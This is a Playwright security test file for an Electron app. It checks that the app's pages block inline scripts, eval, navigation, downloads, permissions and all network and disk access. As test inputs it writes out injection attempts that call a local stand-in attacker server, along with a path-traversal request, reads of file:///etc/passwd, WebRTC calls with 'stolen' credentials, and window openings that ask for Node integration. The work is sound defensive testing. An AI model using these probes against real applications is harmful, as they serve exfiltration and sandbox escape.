import type { ElectronApplication, Page } from '@playwright/test';
import { COMMAND_NAMES } from '../../app/bridge/names.ts';
import { expect, test } from './app.ts';
import { type EvilServer, startEvilServer } from './evil-server.ts';

/** What somebody could do who got a script of theirs into our page. */
let evil: EvilServer;
test.beforeAll(async () => {
  evil = await startEvilServer();
});
test.afterAll(() => evil.close());

const FLAGS = ['--lang=en', '--meter=demo:'];

/** Runs `body` in a task of the page: what the test's own call runs is free of the policy. */
const asPage = (page: Page, body: string): Promise<unknown> =>
  page.evaluate(
    `new Promise((resolve) => {
      const run = async () => { ${body} };
      setTimeout(() => run().then(resolve, (error) => resolve('failed: ' + error)));
    })`,
  );

const contentsCount = (electron: ElectronApplication): Promise<number> =>
  electron.evaluate(({ webContents }) => webContents.getAllWebContents().length);

test('a page runs no inline script, makes none from text and gets nothing from elsewhere', async ({
  launch,
}) => {
  const { page } = await launch({ flags: FLAGS });
  await expect(page.locator('html[data-ready="true"]')).toBeAttached();

  await test.step('every answer of the scheme carries the policy', async () => {
    for (const path of ['/index.html', '/no-such-file.html', '/..%2f..%2fpackage.json']) {
      const policy = await page.evaluate(
        async (wanted) => (await fetch(wanted)).headers.get('content-security-policy'),
        path,
      );
      expect(policy).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self';/);
      expect(policy).not.toMatch(/unsafe|http:|https:|\*/);
    }
  });

  await test.step('inline scripts, handlers and eval', async () => {
    const violations = await asPage(
      page,
      `const seen = [];
      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'globalThis.evil = true';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.evil = true"><a id="link" href="javascript:globalThis.evil = true">x</a>');
      document.querySelector('#link').click();
      try { new Function('globalThis.evil = true')(); } catch {}
      try { eval('globalThis.evil = true'); } catch {}
      try { setTimeout('globalThis.evil = true'); } catch {}
      await new Promise((resolve) => setTimeout(resolve, 300));
      return seen;`,
    );
    expect(new Set(violations as string[])).toEqual(
      new Set(['script-src-elem', 'script-src-attr', 'script-src']),
    );
    expect(await page.evaluate(() => 'evil' in globalThis)).toBe(false);
  });

  await test.step('nothing is asked of another server, in whatever way', async () => {
    const outcome = await asPage(
      page,
      `const at = '${evil.origin}';
      const failed = async (work) => { try { await work(); return false; } catch { return true; } };
      const element = (name, set) => { const one = document.createElement(name); set(one); document.body.append(one); };
      element('script', (one) => { one.src = at + '/a.js'; });
      element('script', (one) => { one.type = 'module'; one.src = at + '/module.js'; });
      element('img', (one) => { one.src = at + '/a.png'; });
      element('link', (one) => { one.rel = 'stylesheet'; one.href = at + '/a.css'; });
      element('link', (one) => { one.rel = 'prefetch'; one.href = at + '/prefetch'; });
      element('link', (one) => { one.rel = 'preconnect'; one.href = at; });
      element('iframe', (one) => { one.src = at + '/frame'; });
      element('object', (one) => { one.data = at + '/object'; });
      element('embed', (one) => { one.src = at + '/embed'; });
      element('video', (one) => { one.src = at + '/video'; });
      element('form', (one) => { one.action = at + '/form'; one.method = 'post'; });
      document.querySelector('form[action^="http"]').submit();
      new WebSocket(at.replace('http', 'ws') + '/socket');
      new EventSource(at + '/events');
      navigator.sendBeacon(at + '/beacon', 'x');
      const all = [
        await failed(() => fetch(at + '/fetch')),
        await failed(() => fetch(at + '/opaque', { mode: 'no-cors' })),
        await failed(() => import(at + '/import.js')),
        await failed(() => fetch('file:///etc/passwd')),
        await failed(() => new Promise((resolve, reject) => {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
          worker.onmessage = resolve;
          worker.onerror = reject;
        })),
      ];
      await new Promise((resolve) => setTimeout(resolve, 300));
      return all;`,
    );
    expect(outcome).toEqual([true, true, true, true, true]);
    expect(evil.asked).toEqual([]);
    expect(await page.evaluate(() => 'evil' in globalThis)).toBe(false);
  });
});

test('even a page without a policy gets nothing from the network or the disk', async ({
  launch,
}) => {
  const { electron } = await launch({ flags: FLAGS });
  const bare = electron.waitForEvent('window');
  const load = electron.evaluate(async ({ BrowserWindow }) => {
    const window = new BrowserWindow({ show: false });
    await window.loadURL('data:text/html,<h1>bare</h1>');
  });
  const [page] = await Promise.all([bare, load]);
  const outcome = await page.evaluate(
    (at) =>
      Promise.all(
        [`${at}/fetch`, 'https://127.0.0.1/', 'file:///etc/passwd'].map((url) =>
          fetch(url, { mode: 'no-cors' }).then(
            () => 'answered',
            () => 'failed',
          ),
        ),
      ),
    evil.origin,
  );
  expect(outcome).toEqual(['failed', 'failed', 'failed']);
  expect(evil.asked).toEqual([]);
});

test('a page reaches nobody by a call between browsers', async ({ launch }) => {
  const { page } = await launch({ flags: FLAGS });
  const candidates = await page.evaluate(async (urls) => {
    const iceServers = [{ urls: [...urls], username: 'stolen', credential: 'x' }];
    const connection = new RTCPeerConnection({ iceServers });
    connection.createDataChannel('out');
    await connection.setLocalDescription(await connection.createOffer());
    const found: unknown[] = [];
    connection.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    return found;
  }, evil.ice);
  expect(candidates).toEqual([]);
  expect(evil.asked).toEqual([]);
});

test('a page knows of Node and Electron nothing but the bridge', async ({ launch }) => {
  const { electron, page } = await launch({ flags: FLAGS });
  const known = await page.evaluate(() => {
    const names = ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'];
    return names.filter((name) => name in globalThis);
  });
  expect(known).toEqual([]);
  const bridge = await page.evaluate(() => Object.keys(window.bridge));
  expect(bridge.toSorted()).toEqual([...COMMAND_NAMES, 'onEvent'].toSorted());
  const opened = electron.waitForEvent('window');
  await electron.evaluate(({ Menu }) => {
    const all = (menu: Electron.Menu | null): Electron.MenuItem[] =>
      menu?.items.flatMap((item) => [item, ...all(item.submenu ?? null)]) ?? [];
    all(Menu.getApplicationMenu())
      .find(({ label }) => label.startsWith('About'))
      ?.click();
  });
  await opened;
  const preferences = await electron.evaluate(({ webContents }) =>
    webContents
      .getAllWebContents()
      // As Electron itself sees them; the typings leave this one out.
      .map((contents) =>
        (
          contents as unknown as { getLastWebPreferences(): Electron.WebPreferences }
        ).getLastWebPreferences(),
      ),
  );
  expect(preferences).toHaveLength(2);
  for (const one of preferences) {
    expect(one).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInSubFrames: false,
      webviewTag: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
    });
    expect(one.nodeIntegrationInWorker ?? false).toBe(false);
    expect(one.experimentalFeatures ?? false).toBe(false);
    expect(one.enableBlinkFeatures ?? '').toBe('');
  }
});

test('every permission and every device is denied', async ({ launch }) => {
  const { page } = await launch({ flags: FLAGS });
  const states = await page.evaluate(async () => {
    const names = [
      'camera',
      'microphone',
      'geolocation',
      'notifications',
      'midi',
      'clipboard-read',
      'persistent-storage',
      'background-sync',
      'screen-wake-lock',
      'storage-access',
      'accelerometer',
    ];
    const query = async (name: string): Promise<string> => {
      try {
        return (await navigator.permissions.query({ name: name as PermissionName })).state;
      } catch {
        return 'unknown';
      }
    };
    return Promise.all(names.map(async (name) => [name, await query(name)]));
  });
  for (const [name, state] of states) expect(`${name} ${state}`).toMatch(/ (denied|unknown)$/);
  expect(states.filter(([, state]) => state === 'denied').length).toBeGreaterThan(6);
  const refused = await page.evaluate(async () => {
    const api = navigator as unknown as Record<
      string,
      Record<string, (options?: unknown) => Promise<unknown>>
    >;
    const asked: Record<string, () => Promise<unknown> | undefined> = {
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      place: () =>
        new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
      clipboard: () => navigator.clipboard.readText(),
      serial: () => api.serial?.requestPort?.({}),
      usb: () => api.usb?.requestDevice?.({ filters: [] }),
      hid: () => api.hid?.requestDevice?.({ filters: [] }),
      bluetooth: () => api.bluetooth?.requestDevice?.({ acceptAllDevices: true }),
      fonts: () =>
        (window as unknown as { queryLocalFonts?: () => Promise<unknown> }).queryLocalFonts?.(),
      midi: () =>
        (
          navigator as unknown as { requestMIDIAccess?: (o: unknown) => Promise<unknown> }
        ).requestMIDIAccess?.({ sysex: true }),
      notifications: async () => {
        if ((await Notification.requestPermission()) === 'denied') throw new Error('denied');
      },
    };
    const outcomes = Object.entries(asked).map(async ([name, ask]) => {
      try {
        const patience = new Promise((resolve) => setTimeout(resolve, 2000));
        const got = await Promise.race([ask(), patience]);
        const isNothing = got === undefined || (Array.isArray(got) && got.length === 0);
        return [name, isNothing ? 'nothing' : 'granted'];
      } catch {
        return [name, 'refused'];
      }
    });
    return Promise.all(outcomes);
  });
  for (const [name, outcome] of refused)
    expect(`${name}: ${outcome}`).toMatch(/: (refused|nothing)$/);
});

test('a page leads nowhere, opens no window, embeds nothing and downloads nothing', async ({
  launch,
}) => {
  const { electron, page } = await launch({ flags: FLAGS });
  await expect(page.locator('html[data-ready="true"]')).toBeAttached();
  const before = page.url();
  await electron.evaluate(({ session }) => {
    const seen: string[] = [];
    Object.assign(globalThis, { downloads: seen });
    session.defaultSession.on('will-download', (event) => {
      seen.push(event.defaultPrevented ? 'prevented' : 'begun');
    });
  });
  const count = await contentsCount(electron);
  const places = [
    `${evil.origin}/navigated`,
    'https://127.0.0.1/',
    'file:///etc/passwd',
    'data:text/html,<h1>evil</h1>',
    'app://other/index.html',
    'chrome://gpu',
    'devtools://devtools/bundled/inspector.html',
    'mailto:a@example.com',
  ];
  for (const place of places) {
    await page.evaluate((url) => {
      location.href = url;
      window.open(url);
      window.open(url, 'named', 'nodeIntegration=yes,contextIsolation=no');
      for (const target of ['', '_blank', '_top']) {
        const link = Object.assign(document.createElement('a'), { href: url, target });
        document.body.append(link);
        link.click();
        link.dispatchEvent(new MouseEvent('auxclick', { button: 1, ctrlKey: true }));
        link.remove();
      }
      const guest = document.createElement('webview');
      guest.setAttribute('src', url);
      guest.setAttribute('nodeintegration', '');
      guest.setAttribute('allowpopups', '');
      document.body.append(guest);
      const save = Object.assign(document.createElement('a'), { href: url, download: 'evil' });
      document.body.append(save);
      save.click();
      const blob = URL.createObjectURL(new Blob(['evil']));
      Object.assign(save, { href: blob }).click();
      window.open(blob);
      location.assign(blob);
      const refresh = document.createElement('meta');
      refresh.httpEquiv = 'refresh';
      refresh.content = `0;url=${url}`;
      document.head.append(refresh);
    }, place);
  }
  await page.waitForTimeout(500);
  expect(page.url()).toBe(before);
  // Playwright itself waits for the navigations that were stopped.
  const heading = await electron.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(
      'document.querySelector("h1").textContent',
    ),
  );
  expect(heading).toBe('Live');
  expect(await contentsCount(electron)).toBe(count);
  expect(evil.asked).toEqual([]);
  const downloads = await electron.evaluate(() => Reflect.get(globalThis, 'downloads') as string[]);
  expect(new Set(downloads)).toEqual(new Set(['prevented']));
});
